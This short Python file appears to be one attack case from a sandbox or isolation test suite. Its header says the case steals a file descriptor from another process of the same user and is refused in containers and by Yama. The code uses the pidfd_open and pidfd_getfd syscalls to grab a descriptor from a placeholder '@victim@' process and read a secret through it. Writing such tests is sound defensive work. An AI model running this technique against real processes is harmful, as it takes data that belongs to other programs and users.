# attack: takes a descriptor out of a process of the same user
# class: processes
# success: secret
# refused: in containers, and by Yama
# control: unconfined
import ctypes, os
def f(x, note):
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, int("@victim@"), 0)
    taken = libc.syscall(438, process, 0, 0)
    return os.pread(taken, 100, 0).decode()
